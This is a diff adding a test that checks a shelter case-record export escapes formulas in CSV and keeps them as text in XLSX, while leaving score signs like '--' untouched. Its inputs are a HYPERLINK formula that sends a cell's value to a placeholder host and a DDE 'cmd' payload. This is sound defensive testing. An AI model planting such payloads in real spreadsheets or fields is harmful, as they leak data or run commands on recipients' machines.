@@ -306,3 +306,32 @@ def test_genogram_links_name_the_people_and_ids_that_only_link_rows_are_left_out
         "contacts"].iter_rows(values_only=True))
     assert "/contacts/*/genogram_person" not in contacts[0] and contacts[2][2] == "Мария"
     assert "p1" not in contacts[2]
+
+
+def test_a_typed_formula_reaches_a_spreadsheet_as_text_and_scores_as_they_are(shelter):
+    formula, command = '=HYPERLINK("http://example.invalid/?q="&A1,"open")', "-2+3+cmd|' /C calc'!A0"
+    data = copy.deepcopy(EXAMPLE)
+    data["support"]["family"] = [{"who": formula, "with_what": command}]
+    record_id = str(uuid.uuid4())
+    r = shelter["anna"].put(f"/api/v1/records/{record_id}", {"case_id": shelter["case"], "form_id": "overzicht-3",
+                                                             "form_version": 1, "status": "draft", "data": data})
+    assert r.status_code == 201, r.json
+    r = shelter["carla"].get("/api/v1/exports/overzicht-3?format=csv&lang=en&labels=codes")
+    assert r.status_code == 200, r.data[:300]
+    archive = zipfile.ZipFile(io.BytesIO(r.data))
+    family = list(csv.reader(io.StringIO(archive.read("overzicht-3.support.family.csv").decode("utf-8-sig"))))
+    assert [record_id, "1", "'" + formula, "'" + command] in family
+    # In the XLSX every text is a text cell already: the answer stays exactly as typed.
+    book = load_workbook(io.BytesIO(shelter["carla"].get("/api/v1/exports/overzicht-3?format=xlsx&lang=en&labels=codes").data))
+    cells = [[c.value for c in row] for sheet in book.worksheets for row in sheet.iter_rows()]
+    assert any(formula in row and command in row for row in cells)
+
+    # The Overzicht 1 scores are signs, and answers: they are not marked.
+    r = shelter["anna"].put(f"/api/v1/records/{uuid.uuid4()}", {
+        "case_id": shelter["case"], "form_id": "overzicht-1", "form_version": 1, "status": "draft",
+        "data": {"status": "b8_3", "nl": {"f1": {"score": "--"}, "f2": {"score": "+"}}}})
+    assert r.status_code == 201, r.json
+    rows = list(csv.reader(io.StringIO(shelter["carla"].get(
+        "/api/v1/exports/overzicht-1?format=csv&lang=en&labels=codes").data.decode("utf-8-sig"))))
+    record = dict(zip(rows[0], rows[2]))
+    assert (record["/nl/f1/score"], record["/nl/f2/score"]) == ("--", "+")
